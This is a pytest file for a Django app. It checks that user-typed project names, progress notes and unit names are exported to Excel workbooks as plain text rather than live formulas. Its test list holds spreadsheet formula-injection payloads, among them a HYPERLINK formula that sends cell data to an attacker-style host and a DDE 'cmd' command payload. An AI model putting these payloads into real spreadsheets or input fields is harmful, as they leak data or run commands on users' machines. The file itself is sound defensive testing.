"""Text a user typed is written to every workbook as text, never as a live formula: a project
named '=HYPERLINK(...)' or progress '=cmd|...' must read back as a string cell holding exactly
what was typed (openpyxl otherwise writes a str beginning with "=" as a formula)."""

import datetime as dt
import io
import re

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from pipeline.progress import progress_save
from tests import factories
from tests.factories import make_project

pytestmark = pytest.mark.django_db

INJECTIONS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=cmd|'/c calc'!A1",
    "+SUM(1,2)",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "#N/A",
]


# A character XML cannot carry as itself (a carriage return, a control character) is written
# as _xHHHH_ and a literal "_x" escaped as _x005F_ (ECMA-376 ST_Xstring); Excel and LibreOffice
# show the character, openpyxl hands back the escape. Read it as Excel shows it.
XSTRING_ESCAPE = re.compile(r"_x([0-9A-Fa-f]{4})_")


def shown(value: str) -> str:
    return XSTRING_ESCAPE.sub(lambda match: chr(int(match.group(1), 16)), value)


def test_a_carriage_return_is_read_as_excel_shows_it():
    assert shown("_x000D_=1+1") == "\r=1+1"
    assert shown("a_x005F_x000D_b") == "a_x000D_b"


def string_cells(content: bytes) -> dict:
    """Every non-empty cell of every sheet that holds a str, as Excel shows it: value -> the
    data types seen."""
    book = load_workbook(io.BytesIO(content))
    found = {}
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str):
                    found.setdefault(shown(cell.value), set()).add(cell.data_type)
    return found


def assert_written_as_text(content: bytes, texts) -> None:
    found = string_cells(content)
    for text in texts:
        assert text in found, f"{text!r} not in the workbook"
        assert found[text] == {"s"}, f"{text!r} written as {found[text]}"
    assert not [value for value, types in found.items() if types - {"s"}]


@pytest.fixture
def injected(district, unit, industry, manager):
    """One project per hostile text, named so, with progress and problems in May 2025 so; its
    investor and a grouped unit carry the texts too."""
    progress_texts = []
    for index, text in enumerate(INJECTIONS):
        investor = factories.InvestorFactory(name=f"{text}{index}")
        project = make_project(unit=unit, industry=industry, by=manager, name=text, investor=investor)
        project.refresh_from_db()
        assert project.name == text  # stored as typed: the export's job is to write it so
        record = progress_save(
            project=project,
            by=manager,
            month=dt.date(2025, 5, 1),
            progress=text,
            problems=f"{text}问题",
        )
        # progress_save strips surrounding blanks; what it stored must be written as stored.
        assert record.progress.startswith(("=", "+", "-", "@", "#"))
        progress_texts += [record.progress, record.problems]
    return progress_texts


def test_the_project_list_export_writes_typed_text_as_text(client, manager, injected):
    client.force_login(manager)
    response = client.get(reverse("projects-export"))
    assert response.status_code == 200
    assert_written_as_text(response.content, [*INJECTIONS, *[f"{t}{i}" for i, t in enumerate(INJECTIONS)]])


def test_the_ledger_workbook_writes_typed_text_as_text(client, manager, injected):
    client.force_login(manager)
    response = client.get("/api/v1/ledgers/2025-05/?format=xlsx")
    assert response.status_code == 200
    assert_written_as_text(
        response.content,
        [*INJECTIONS, *[f"{t}{i}" for i, t in enumerate(INJECTIONS)], *injected],
    )


def test_the_statistics_workbook_writes_typed_text_as_text(client, district, industry, manager):
    units = [
        factories.UnitFactory(code=f"inj-{index}", name=text, district=district)
        for index, text in enumerate(INJECTIONS)
    ]
    for unit in units:
        make_project(unit=unit, industry=industry, by=manager)
    client.force_login(manager)
    response = client.get("/api/v1/stats/?year=2025&group_by=unit&format=xlsx")
    assert response.status_code == 200
    assert_written_as_text(response.content, INJECTIONS)
